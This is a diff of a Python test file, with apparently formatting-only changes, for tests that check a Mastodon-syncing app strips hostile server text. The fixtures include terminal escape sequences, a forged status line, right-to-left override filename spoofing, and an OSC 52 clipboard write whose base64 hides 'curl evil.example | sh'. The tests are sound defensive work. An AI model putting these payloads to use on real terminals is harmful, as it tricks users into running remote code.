@@ -33,30 +33,40 @@ TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\u202e", "\u202d",
 
 
 def hostile_error(token: str) -> str:
-    return ("\x1b]0;Shopkeep: all good\x07"  # sets the terminal title
-            "\x1b[2J\x1b[H"  # clears the screen
-            "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard
-            f"invalid token {token}"
-            "\nshop@town.example: OK, 99 new posts, 0 new conversations."  # a forged line
-            "\u202egnp.eciovni" + "x" * 300_000)
+    return (
+        "\x1b]0;Shopkeep: all good\x07"  # sets the terminal title
+        "\x1b[2J\x1b[H"  # clears the screen
+        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard
+        f"invalid token {token}"
+        "\nshop@town.example: OK, 99 new posts, 0 new conversations."  # a forged line
+        "\u202egnp.eciovni" + "x" * 300_000
+    )
 
 
 def run_sync(data_dir: Path, service: str) -> subprocess.CompletedProcess[str]:
     env = {**os.environ, "SHOPKEEP_KEYCHAIN_SERVICE": service}
     env.pop("SHOPKEEP_DATA_DIR", None)
-    return subprocess.run([sys.executable, "-m", "app", "sync", "--data-dir", str(data_dir)],
-                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=90,
-                          stdin=subprocess.DEVNULL)
+    return subprocess.run(
+        [sys.executable, "-m", "app", "sync", "--data-dir", str(data_dir)],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=90,
+        stdin=subprocess.DEVNULL,
+    )
 
 
 def test_a_hostile_error_body_reaches_the_terminal_and_the_database_clean(
-        store: Any, keychain: Any, mastodon_server: MastodonServer, tmp_path: Path) -> None:
+    store: Any, keychain: Any, mastodon_server: MastodonServer, tmp_path: Path
+) -> None:
     data_dir = tmp_path / "data"
     shop = mastodon_account(store, mastodon_server)
     keychain.save(key_for(shop), {"access_token": mastodon_server.token})
     store.close()
-    mastodon_server.respond_next(NOTIFICATIONS, 422, {"error": hostile_error(
-        mastodon_server.token)}, times=10)
+    mastodon_server.respond_next(
+        NOTIFICATIONS, 422, {"error": hostile_error(mastodon_server.token)}, times=10
+    )
 
     result = run_sync(data_dir, keychain.service)
 
@@ -89,12 +99,18 @@ def test_a_hostile_error_body_reaches_the_terminal_and_the_database_clean(
 
 
 def test_a_right_to_left_override_in_a_handle_is_neutralised_before_it_is_stored(
-        store: Any) -> None:
+    store: Any,
+) -> None:
     shop = store.add_account(_shop_info())
     status = {
-        "id": "71", "created_at": "2024-05-01T09:00:00Z", "content": "<p>@shop hello</p>",
-        "account": {"id": "9", "acct": "ann\u202eexe.gnp@town.example",
-                    "display_name": "Ann\u202e\x1b]0;owned\x07 Smith"},
+        "id": "71",
+        "created_at": "2024-05-01T09:00:00Z",
+        "content": "<p>@shop hello</p>",
+        "account": {
+            "id": "9",
+            "acct": "ann\u202eexe.gnp@town.example",
+            "display_name": "Ann\u202e\x1b]0;owned\x07 Smith",
+        },
         "visibility": "public",
     }
     post = parse_status(status, is_mention=True)
@@ -112,16 +128,19 @@ def _shop_info() -> Any:
     return AccountInfo(Network.MASTODON, "https://town.example", "@shop", "1")
 
 
-@pytest.mark.parametrize(("raw", "shown"), [
-    ("\x1b]0;title\x07hello", "hello"),
-    ("\x1b[31mred\x1b[0m", "red"),
-    ("a\nb\r\nc", "a b c"),
-    ("\x9b2Jcleared", "cleared"),
-    ("\x1bPdevice control\x1b\\after", "after"),
-    ("file\u202egnp.exe", "filegnp.exe"),
-    ("tab\tand\x00nul", "tab and nul"),
-    ("Café ☕ 👩‍🍳", "Café ☕ 👩‍🍳"),  # real text, emoji joiners included, is untouched
-])
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ("\x1b]0;title\x07hello", "hello"),
+        ("\x1b[31mred\x1b[0m", "red"),
+        ("a\nb\r\nc", "a b c"),
+        ("\x9b2Jcleared", "cleared"),
+        ("\x1bPdevice control\x1b\\after", "after"),
+        ("file\u202egnp.exe", "filegnp.exe"),
+        ("tab\tand\x00nul", "tab and nul"),
+        ("Café ☕ 👩‍🍳", "Café ☕ 👩‍🍳"),  # real text, emoji joiners included, is untouched
+    ],
+)
 def test_one_line_of_server_text_is_cleaned(raw: str, shown: str) -> None:
     assert clean_line(raw) == shown
 
@@ -132,8 +151,10 @@ def test_a_long_server_sentence_is_cut_with_a_mark() -> None:
 
 
 def test_a_post_keeps_its_lines_but_loses_escapes_and_overrides() -> None:
-    assert clean_block("Hi!\r\n\x1b[2JWhere is\u2028my \u202ecake?\n\tThanks") == \
-        "Hi!\nWhere is\nmy cake?\n\tThanks"
+    assert (
+        clean_block("Hi!\r\n\x1b[2JWhere is\u2028my \u202ecake?\n\tThanks")
+        == "Hi!\nWhere is\nmy cake?\n\tThanks"
+    )
 
 
 def test_a_log_message_cannot_start_a_forged_entry() -> None:
@@ -143,13 +164,15 @@ def test_a_log_message_cannot_start_a_forged_entry() -> None:
 
 
 def test_an_echoed_credential_is_hidden_once_it_has_been_sent(
-        mastodon_server: MastodonServer) -> None:
+    mastodon_server: MastodonServer,
+) -> None:
     from app.net.mastodon import MastodonClient
 
     secret = "echo-me-" + "q" * 30
     # twice: a 400 to the first ask (with quotes) is retried once asking for mentions only
-    mastodon_server.respond_next(NOTIFICATIONS, 400, {"error": f"bad request for {secret}"},
-                                 times=2)
+    mastodon_server.respond_next(
+        NOTIFICATIONS, 400, {"error": f"bad request for {secret}"}, times=2
+    )
     client = MastodonClient(mastodon_server.url, secret, page_pause=0.0, timeout=(1.0, 2.0))
     with pytest.raises(BadResponse) as caught:
         client.mentions(None)
@@ -159,7 +182,8 @@ def test_an_echoed_credential_is_hidden_once_it_has_been_sent(
 
 
 def test_a_logged_server_string_is_cleaned_before_any_handler_sees_it(
-        mastodon_server: MastodonServer) -> None:
+    mastodon_server: MastodonServer,
+) -> None:
     """The log file and the terminal (warnings go to stderr) get the same clean record."""
     import logging
 
@@ -193,7 +217,8 @@ def test_a_logged_server_string_is_cleaned_before_any_handler_sees_it(
 
 
 def test_a_reply_refused_with_a_hostile_error_keeps_a_clean_short_reason(
-        store: Any, shop_account: Any, make_post: Any, keyword_score: Any) -> None:
+    store: Any, shop_account: Any, make_post: Any, keyword_score: Any
+) -> None:
     """The Outbox shows why a reply failed: the server's words, never its escapes."""
     store.ingest(shop_account.id, [make_post("p1", "where is my cake?")], keyword_score)
     thread = store.list_threads(ThreadQuery(account_id=shop_account.id), 0, 1)[0]
